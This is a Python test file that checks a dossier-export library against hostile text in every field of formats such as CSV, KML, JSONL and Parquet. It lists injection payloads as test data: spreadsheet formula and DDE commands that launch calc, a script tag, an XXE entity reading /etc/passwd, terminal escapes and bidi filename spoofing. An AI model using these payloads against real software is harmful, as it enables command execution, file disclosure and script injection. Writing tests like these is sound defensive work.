"""Hostile names in every field of every format: formulas, markup, characters that command or turn, a megabyte."""

import json
from collections.abc import Iterator
from typing import Any

import msgspec
import pytest
from msgspec.structs import replace

from sakkhi.model.dossier import Dossier
from sakkhi.model.incident import ByType, Stance, Target, TargetType
from sakkhi.share import FORMATS
from sakkhi.share.text import cell, listed, plain, uncelled, unlisted, xml
from tests.share.making import ASAD, bytes_of, dossier, said, telling
from tests.share.reading import lines, parquet, placemarks, plain_perpetrators, table, templates

HOSTILE = {
    "formula": '=HYPERLINK("http://x.example/?"&A1,"see")',
    "formulas": "+1+1",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "wide": "＝1+1",
    "tab": "\t=1+1",
    "new line": "\r\n=1+1,2",
    "quotes": 'a","=1+1","',
    "apostrophe": "'=1+1",
    "markup": "</value></Data><script>alert(1)</script><!--",
    "cdata": "]]><b onclick='x'>&amp;&#0;",
    "entity": '<!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
    "controls": "a\x00b\x07c\x1b[2Jd\x7fe\x85f\x9fg",
    "turning": "safe\u202egnp.exe\u2066x\u2069\u200f\u061c",
    "separators": "a\u2028b\u2029c\ufeffd\uffffe",
    "surrogate": "half\ud800pair",
    "json": '"}],"x":[{"',
    "template": 'X"\n10. PERP: ORGANIZATION ID "Y',
    "list": "a; b\\; c",
    "megabyte": "ক" * 1_000_000,
    "astral": "𒀀😀",
    "empty": "",
    "blank": " \u200b ",
}
TURNING = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c".encode()


def hostile(word: str) -> Dossier:
    """A dossier with the word wherever a report's or a person's words may stand."""
    words = [
        said(word, Stance.STATES, word, ByType.OFFICIAL),
        said(f"{word}2", Stance.SUSPECTS, word, ByType.OFFICIAL),
        said(f"{word}3", Stance.CLAIMS, word, ByType.GROUP),
        said(f"{word}3", Stance.DENIES, word, ByType.GROUP),
    ]
    place = replace(ASAD, name=word, site=word)
    target = Target(TargetType.MILITARY_BASE, word, word)
    made = dossier(
        telling(word, words, where=place, launched_from=place, targets=(target,), outlet=word), id=word or "empty"
    )
    headers = tuple(replace(h, title=word, source=f"https://x.example/{word}") for h in made.reports)
    return replace(made, reports=headers)


def texts(name: str, content: bytes) -> Iterator[str]:
    """Every text that a reader of the file gets."""
    if name in ("csv", "acled", "ucdp", "gtd"):
        for row in table(content):
            yield from row.values()
    elif name == "kml":
        for mark in placemarks(content):
            yield from mark.values()
    elif name == "muc4":
        yield from (fill for t in templates(content) for fills in t.values() for fill in fills)
    elif name == "parquet":
        yield from _inner(parquet(content))
    else:
        yield from _inner(lines(content) if name in ("jsonl", "ftm") else json.loads(content))


def _inner(value: Any) -> Iterator[str]:
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, inner in value.items():
            yield key
            yield from _inner(inner)
    elif isinstance(value, list):
        for inner in value:
            yield from _inner(inner)


@pytest.mark.parametrize("kind", HOSTILE)
@pytest.mark.parametrize("name", FORMATS)
def test_a_hostile_word_breaks_nothing(name: str, kind: str) -> None:
    word = HOSTILE[kind]
    plainly = dossier(telling("r", [said("Houthis", Stance.STATES)], targets=(Target(TargetType.MILITARY_BASE),)))
    content = bytes_of(name, [plainly, hostile(word), plainly])
    content.decode() if name != "parquet" else content
    found = list(texts(name, content))
    assert found
    if name in ("csv", "acled", "ucdp", "gtd", "kml", "muc4"):
        assert not any(c < " " or "\x7f" <= c <= "\x9f" for text in found for c in text[:3000])
    if name != "parquet":  # what turns a line is never there as such: it is left out, or stands as an escape
        assert not any(TURNING[n : n + 3] in content for n in range(0, len(TURNING) - 2, 3))
    assert "Houthis" in plain_perpetrators(name, content) or name == "jsonl"


@pytest.mark.parametrize("kind", HOSTILE)
@pytest.mark.parametrize("name", ["csv", "acled", "ucdp", "gtd"])
def test_no_cell_is_a_formula_or_another_row(name: str, kind: str) -> None:
    rows = table(bytes_of(name, [hostile(HOSTILE[kind])]))
    assert len(rows) == 1
    assert None not in rows[0]
    for column, text in rows[0].items():
        number = text.removeprefix("-").replace(".", "", 1).replace("e", "", 1).isdigit()
        assert number or not text.startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r")), column


@pytest.mark.parametrize("kind", HOSTILE)
def test_a_balloon_shows_no_markup_of_a_report(kind: str) -> None:
    content = bytes_of("kml", [hostile(HOSTILE[kind])]).decode()
    assert content.count("<script") == content.count("<b ") == content.count("<!") == 0
    for description in content.split("<description>")[1:]:
        shown = description.partition("</description>")[0].replace("&lt;br&gt;", "")
        assert "&lt;" not in shown  # escaped once more than XML asks for: a browser in the balloon shows it as text


@pytest.mark.parametrize("kind", [k for k in HOSTILE if k not in ("surrogate", "empty")])
@pytest.mark.parametrize("name", ["jsonl", "geojson", "stix", "parquet"])
def test_what_formats_for_programs_hold_comes_back_whole(name: str, kind: str) -> None:
    assert HOSTILE[kind] in set(texts(name, bytes_of(name, [hostile(HOSTILE[kind])])))


@pytest.mark.parametrize("word", HOSTILE.values(), ids=HOSTILE)
def test_a_cell_and_a_list_come_back(word: str) -> None:
    assert uncelled(cell(word)) == plain(word)
    words = [w for w in (plain(word), "b", plain(word)) if w]
    assert unlisted(listed([word, "b", word])) == tuple(words)
    assert uncelled(cell(listed([word]))) == listed([word])
    assert not set("<>\"'") & set(xml(word))


def test_a_loss_report_harms_no_terminal() -> None:
    from sakkhi.share import export

    bad = replace(hostile("\x1b[2J\u202e"), record=replace(hostile("\x1b[2J\u202e").record, when=()))
    pieces, account = export("acled", [bad])
    list(pieces)
    words, report = account.in_words(), b"".join(account.report())
    account.close()
    assert not {"\x1b", "\u202e"} & set(words)
    assert msgspec.json.decode(report)["not_eligible"][0]["id"] == "\x1b[2J\u202e"
